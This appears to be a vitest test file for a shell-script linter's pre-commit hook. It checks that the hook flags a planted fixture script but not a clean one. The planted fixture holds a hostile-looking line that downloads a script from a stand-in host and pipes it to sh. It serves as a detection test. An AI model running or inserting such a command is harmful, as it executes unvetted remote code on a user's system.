/**
 * The pre-commit hook as users install it: Debian's pre-commit (3.x) clones this repository,
 * installs it with npm (`npm install`, then `npm pack` — whose stdout it reads as the tarball's
 * name — then `npm install -g` of that tarball) and runs `shellguard lint` on the files of a commit.
 * `pre-commit try-repo` does all of that from this checkout, into a temporary PRE_COMMIT_HOME.
 */

import { spawn, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { ROOT } from "../cli/helpers.js";

const hasPreCommit = spawnSync("pre-commit", ["--version"], { encoding: "utf8" }).status === 0;
// .ci/run runs the suite again on other Node.js versions; installing through pre-commit (a clone,
// a compile, two builds) proves nothing more there.
const secondaryNode = process.env.SHELLGUARD_SECONDARY_NODE === "1";

/** A child to completion, asynchronously: the test worker must stay free to answer vitest. */
function runAsync(cmd: string, args: string[], opts: { cwd: string; env: NodeJS.ProcessEnv }): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { ...opts, stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "";
    let stderr = "";
    child.stdout.setEncoding("utf8").on("data", (c: string) => (stdout += c));
    child.stderr.setEncoding("utf8").on("data", (c: string) => (stderr += c));
    const timer = setTimeout(() => child.kill("SIGKILL"), 1_500_000);
    child.on("close", (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    });
  });
}
const dir = mkdtempSync(join(tmpdir(), "shellguard-pre-commit-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe.skipIf(!hasPreCommit || secondaryNode)("pre-commit try-repo", () => {
  it("installs the hook from this repository and finds the planted line, not the clean one", async () => {
    const repo = join(dir, "fixture");
    mkdirSync(repo);
    const env = { ...process.env, PRE_COMMIT_HOME: join(dir, "pre-commit-home"), GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@example.com", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@example.com" };
    const git = (...args: string[]) => spawnSync("git", args, { cwd: repo, env, encoding: "utf8" });
    git("init", "-q");
    writeFileSync(join(repo, "clean.sh"), "#!/bin/sh\necho hello\n");
    writeFileSync(join(repo, "planted.sh"), "#!/bin/sh\ncurl https://x.example/install.sh | sh\n");
    git("add", ".");
    // One run (each try-repo installs afresh): the hook gets both files, as for a commit of both.
    const r = await runAsync("pre-commit", ["try-repo", ROOT, "shellguard", "--files", "clean.sh", "planted.sh", "--verbose"], { cwd: repo, env });
    // The hook's --max-warnings 0: a warning fails it, and pre-commit prints what was found.
    expect(r.status, r.stdout + r.stderr).toBe(1);
    expect(r.stdout).toMatch(/shellguard lint\.+Failed/);
    expect(r.stdout).toContain("planted.sh");
    expect(r.stdout).toContain("shell/pipe-to-shell");
    expect(r.stdout).not.toContain("clean.sh");
  }, 3_000_000);
});
